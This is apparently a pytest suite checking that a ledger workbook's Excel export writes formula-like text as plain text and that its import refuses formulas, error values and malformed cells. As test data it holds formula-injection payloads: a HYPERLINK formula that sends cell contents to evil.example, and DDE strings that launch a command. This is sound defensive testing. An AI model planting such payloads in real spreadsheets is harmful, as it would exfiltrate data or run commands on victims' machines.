"""The ledger workbook under hostile text and hostile cells.

Export: text that would be a formula (OWASP's ``=``, ``+``, ``-``, ``@``, tab, CR) stays text
and comes back exactly. Import: formulas, error values, wrong types, unstorable and huge text,
merged cells and a damaged ``_meta`` give an error naming the cell, and change nothing.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from datetime import datetime
from datetime import time as clock_time
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy.orm import Session

from engine import WorkflowEngine
from workflows.errors import ValidationError
from workflows.ledger import round_meta
from workflows.plans import round_problems

from .plan_fixtures import SmallPlan, plan_counts, small_plan
from .xlsx_helpers import SHEET, edit, export, load, patch, refused, set_cell_xml

EVIL_LINK = '=HYPERLINK("http://evil.example/?leak="&A3,"点击查看佐证")'
DDE = "=cmd|' /C calc'!A0"


# -- export: hostile text stays text -------------------------------------------------------------


def hostile_plan(session: Session, wf_engine: WorkflowEngine) -> SmallPlan:
    """The small plan with text that spreadsheets read as formulas in every text column."""
    plan = small_plan(session, wf_engine, launch_it=False)
    plan.round.title = EVIL_LINK
    plan.round.signatory, plan.round.contacts = "@SUM(1+1)*cmd|' /C calc'!A0", {"phone": "+86 20-1234"}
    plan.studying.part.title = DDE
    plan.studying.title = "+1+cmd|' /C calc'!A0"
    first, second = plan.studying.measures
    first.text, first.progress = "-2+3+cmd|' /C calc'!A0", EVIL_LINK
    second.text, second.progress = "@SUM(A1:A9)", "\t=1+1"
    plan.ideology.measures[0].text, plan.ideology.measures[0].progress = "#REF!", "\r=1+1"
    plan.ideology.measures[0].deadline_text = "=TODAY()"
    plan.leader.name, plan.other_leader.name = "=1+1", "-陈"
    plan.security.name, plan.office.name = "+综治科", "@办公室"
    plan.round.inspected_unit.name = "=区委政法委"  # type: ignore[union-attr]
    # a padding that makes the _meta JSON's second 30,000-character chunk start with "="
    plan.round.sections = {"preamble": [DDE]}
    at = json.dumps(round_meta(plan.round), ensure_ascii=False).index(DDE)
    plan.round.sections = {"preamble": ["文" * (30000 - at) + DDE]}
    session.flush()
    return plan


def test_text_that_looks_like_a_formula_is_written_as_text_in_every_column(
    session: Session, wf_engine: WorkflowEngine
) -> None:
    plan = hostile_plan(session, wf_engine)
    data = export(session, plan)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")}
    assert len(sheets) == 2  # the ledger and _meta
    for xml in sheets.values():
        assert not re.search(r"<f[\s>/]", xml), "a formula element reached the workbook"
        assert 't="e"' not in xml  # "#REF!" is text, not an error value
    book = load_workbook(io.BytesIO(data))
    sheet, meta = book.worksheets[0], book["_meta"]
    expected = {"A1": EVIL_LINK, "B3": DDE, "C3": "+1+cmd|' /C calc'!A0", "D3": "-2+3+cmd|' /C calc'!A0",
                "E3": "=1+1", "F3": "+综治科", "G3": "+综治科", "J3": EVIL_LINK, "D4": "@SUM(A1:A9)",
                "J4": "\t=1+1", "D5": "#REF!", "H5": "=TODAY()", "J5": "\r=1+1", "E6": "-陈",
                "F6": "@办公室", "G6": "@办公室、+综治科"}
    assert {ref: sheet[ref].value for ref in expected} == expected
    assert all(sheet[ref].data_type == "s" for ref in expected)
    assert meta["D2"].value.startswith(DDE) and meta["D2"].data_type == "s"


def test_hostile_text_comes_back_exactly_by_update_and_as_a_new_round(
    session: Session, wf_engine: WorkflowEngine
) -> None:
    plan = hostile_plan(session, wf_engine)
    data = export(session, plan)

    updated = load(session, wf_engine, data)
    assert updated.changed_measures == 0 and updated.updated == [plan.round]

    (copy,) = load(session, wf_engine, data, as_new=True).created
    assert (copy.title, copy.signatory, copy.contacts, copy.sections) == (
        EVIL_LINK, plan.round.signatory, {"phone": "+86 20-1234"}, plan.round.sections)
    assert copy.inspected_unit is plan.round.inspected_unit
    assert [p.part.title for p in round_problems(copy)][:1] == [DDE]
    assert [(p.title, [(m.text, m.deadline_text, [u.name for u in m.responsible_units]) for m in p.measures],
             p.responsible_leader) for p in round_problems(copy)] == [
        (p.title, [(m.text, m.deadline_text, [u.name for u in m.responsible_units]) for m in p.measures],
         p.responsible_leader) for p in round_problems(plan.round)]


def test_text_xml_cannot_hold_is_replaced_rather_than_failing_the_export(
    session: Session, wf_engine: WorkflowEngine
) -> None:
    plan = small_plan(session, wf_engine, launch_it=False)
    plan.studying.measures[0].progress = "第一行\x0b第二行"  # a line break pasted from Word
    plan.round.title = "标题\x01"

    book = load_workbook(io.BytesIO(export(session, plan)))

    assert book.worksheets[0]["J3"].value == "第一行\ufffd第二行"
    assert book.sheetnames[0] == "标题"


# -- import: formulas ---------------------------------------------------------------------------


@pytest.mark.parametrize("cached", [False, True], ids=["no cached value", "cached value"])
def test_a_formula_in_an_editable_column_is_an_error_naming_the_cell(
    session: Session, wf_engine: WorkflowEngine, cached: bool
) -> None:
    plan = small_plan(session, wf_engine, launch_it=False)
    # with no cached value these read as empty: the deadline and the leader would be cleared
    data = patch(export(session, plan), SHEET, lambda xml: set_cell_xml(
        "E5", f'<c r="E5" t="str"><f>E3</f>{"<v>李书记</v>" if cached else ""}</c>')(set_cell_xml(
        "H4", f'<c r="H4"><f>DATE(2026,9,30)</f>{"<v>46295</v>" if cached else ""}</c>')(xml)))

    errors = refused(session, wf_engine, data)

    title = plan.round.title[:31]
    assert errors == [
        f"工作表“{title}” H4（整改时限）: 是公式 =DATE(2026,9,30)，请复制后“选择性粘贴 → 数值”再导入",
        f"工作表“{title}” E5（责任领导）: 是公式 =E3，请复制后“选择性粘贴 → 数值”再导入",
    ]
    assert plan.studying.measures[1].deadline is not None
    assert plan.ideology.responsible_leader is plan.leader


def test_formulas_in_output_columns_are_ignored_and_add_no_rows(
    session: Session, wf_engine: WorkflowEngine
) -> None:
    plan = small_plan(session, wf_engine, launch_it=False)

    def formulas(book: Workbook) -> None:
        sheet = book.worksheets[0]
        for row in range(3, 40):  # 序号 as a formula filled far below the data
            sheet.cell(row, 1, f"=ROW()-{row}")
        sheet["J3"], sheet["L4"] = '=HYPERLINK("http://x","y")', "=NOW()"

    result = load(session, wf_engine, edit(export(session, plan), formulas))

    assert result.updated == [plan.round] and result.changed_measures == 0


# -- import: merged cells -----------------------------------------------------------------------


def test_merged_cells_read_as_their_top_left_value(session: Session, wf_engine: WorkflowEngine) -> None:
    plan = small_plan(session, wf_engine, launch_it=False)

    def merge(book: Workbook) -> None:  # 方面 over its part, 问题 over the problem's two measures
        book.worksheets[0].merge_cells("B3:B4")
        book.worksheets[0].merge_cells("C3:C4")

    assert load(session, wf_engine, edit(export(session, plan), merge)).changed_measures == 0

    def merge_keys(book: Workbook) -> None:
        book.worksheets[0].merge_cells("R3:R4")

    errors = refused(session, wf_engine, edit(export(session, plan), merge_keys))
    assert errors == [f"第4行 measure_id: 措施 {plan.studying.measures[0].id} 出现了不止一次"]


# -- import: wrong types, error values, unstorable and huge text ----------------------------------

CELL_CASES: dict[str, tuple[dict[str, Any], list[str]]] = {
    "flags": ({"T3": 5, "T4": datetime(2026, 1, 1), "T5": True,
               "T6": '{"long_term": "yes", "lookback_months": 1e9, "publishable": null}', "T7": "[[[" * 5000},
              ["第3行 problem_flags: 应为 JSON 对象", "第4行 problem_flags: 无法读取", "第5行 problem_flags: 无法读取",
               "第6行 problem_flags: long_term 应为 true 或 false",
               "第6行 problem_flags: lookback_months 应为 1 到 36 的整数", "第7行 problem_flags: 无法读取"]),
    "keys": ({"Q3": datetime(2026, 1, 1), "Q4": "9" * 5000, "Q5": True, "Q6": 1e300},
             ["第3行 problem_id: 不是有效的编号 \"2026-01-01T00:00:00\"",
              f"第4行 problem_id: 不是有效的编号 \"{'9' * 40}\"", "第5行 problem_id: 不是有效的编号 \"True\"",
              "第6行 problem_id: 不是有效的编号 \"1e+300\""]),
    "visible": ({"E3": 12345, "H4": True, "H5": clock_time(12, 0), "H6": 1e300, "H7": "长期坚持" + "啊" * 200},
                ["第3行 责任领导: 未知的责任领导 \"12345\"（请填姓名或登录名，重名时填登录名）",
                 "第4行 整改时限: 无法识别的日期 \"True\"", "第5行 整改时限: 无法识别的日期 \"12:00:00\"",
                 # H6 is formatted as a date, and no date is 1e300 days after 1900: openpyxl reads #VALUE!
                 "{sheet} H6（整改时限）: 是错误值 #VALUE!", "第7行 整改时限: 过长（最多 100 个字符）"]),
    "error values": ({"C3": "#REF!", "H4": "#DIV/0!", "R5": "#N/A"},
                     ["{sheet} C3（问题）: 是错误值 #REF!", "{sheet} H4（整改时限）: 是错误值 #DIV/0!"]),
}


@pytest.mark.parametrize("case", CELL_CASES)
def test_wrong_types_and_error_values_are_errors_naming_the_row_or_cell(
    session: Session, wf_engine: WorkflowEngine, case: str
) -> None:
    plan = small_plan(session, wf_engine, launch_it=False)
    values, expected = CELL_CASES[case]

    def spoil(book: Workbook) -> None:
        for ref, value in values.items():
            book.worksheets[0][ref] = value

    errors = refused(session, wf_engine, edit(export(session, plan), spoil), as_new=True)

    assert errors == [e.format(sheet=f"工作表“{plan.round.title[:31]}”") for e in expected]


def test_huge_cells_and_text_xml_cannot_carry_are_refused(session: Session, wf_engine: WorkflowEngine) -> None:
    plan = small_plan(session, wf_engine, launch_it=False)
    huge = patch(export(session, plan), SHEET, set_cell_xml(
        "D3", f'<c r="D3" t="inlineStr"><is><t>{"长" * 40000}</t></is></c>'))
    assert refused(session, wf_engine, huge, as_new=True) == [
        f"工作表“{plan.round.title[:31]}” D3（整改措施）: 过长（40,000 个字符，最多 32,767 个）"]

    for reference in ("&#0;", "&#xD800;"):  # a NUL (PostgreSQL cannot store it), a lone surrogate
        data = patch(export(session, plan), SHEET, set_cell_xml(
            "D4", f'<c r="D4" t="inlineStr"><is><t>措施{reference}</t></is></c>'))
        before = plan_counts(session)
        with pytest.raises(ValidationError, match=r"damaged \(xl/worksheets/sheet1.xml, cell D4: reference to "
                                                  r"invalid character number\)"):
            load(session, wf_engine, data, as_new=True)
        assert plan_counts(session) == before


# -- import: the _meta sheet ----------------------------------------------------------------------

META_CASES = {
    '{"title": 5, "feedback_date": "soon", "contacts": [1], "sections": "x", "inspected_unit": true}': [
        "title 应为文本", "inspected_unit 应为文本", "contacts 应为 JSON 对象", "sections 应为 JSON 对象",
        "feedback_date 不是日期（YYYY-MM-DD）：soon"],
    '{"title": "整改\\u0000方案"}': ["title 含有空字符（NUL），数据库无法保存"],
    '{"signatory": "\\ud800"}': ["signatory 含有无效的 Unicode 字符（孤立代理项 U+D800）"],
    '{"contacts": {"phone": 5}, "sections": {"preamble": ["\\u0000"]}}': [
        "contacts 的值应为文本", "sections 含有空字符（NUL），数据库无法保存"],
    json.dumps({"title": "长" * 301, "period_start": "2025-05-01", "period_end": "2025-04-01"}): [
        "title 过长（301 个字符，最多 300 个）", "period_end 早于 period_start"],
    "[1, 2]": ["轮次信息应为 JSON 对象"],
    '{"kind": "督查"}': ["kind 应为 巡察、巡视、审计 之一：督查"],
}


def test_wrong_values_in_meta_are_errors_naming_its_cell(session: Session, wf_engine: WorkflowEngine) -> None:
    plan = small_plan(session, wf_engine, launch_it=False)
    where = f"工作表“_meta” C2（{plan.round.title[:31]} 的轮次信息）: "
    for text, problems in META_CASES.items():
        data = edit(export(session, plan), lambda book, text=text: book["_meta"].__setitem__("C2", text))

        assert refused(session, wf_engine, data, as_new=True) == [where + problem for problem in problems]


def test_meta_that_is_not_json_is_an_error_but_only_when_it_is_used(
    session: Session, wf_engine: WorkflowEngine
) -> None:
    plan = small_plan(session, wf_engine, launch_it=False)
    for value in ["[" * 30000, '{"title": 1' + "1" * 5000 + "}", '{"a": NaN}', "{", 5, True]:
        data = edit(export(session, plan), lambda book, value=value: book["_meta"].__setitem__("C2", value))

        (error,) = refused(session, wf_engine, data, as_new=True)
        assert error.startswith("工作表“_meta” C2") and ("无法读取" in error or "应为 JSON 对象" in error), error

    assert load(session, wf_engine, data).changed_measures == 0  # an update does not read _meta


def test_a_formula_in_meta_is_an_error(session: Session, wf_engine: WorkflowEngine) -> None:
    plan = small_plan(session, wf_engine, launch_it=False)
    data = edit(export(session, plan), lambda book: book["_meta"].__setitem__("C2", "=A1"))

    assert refused(session, wf_engine, data, as_new=True) == [
        "工作表“_meta” C2: 是公式 =A1，请复制后“选择性粘贴 → 数值”再导入"]
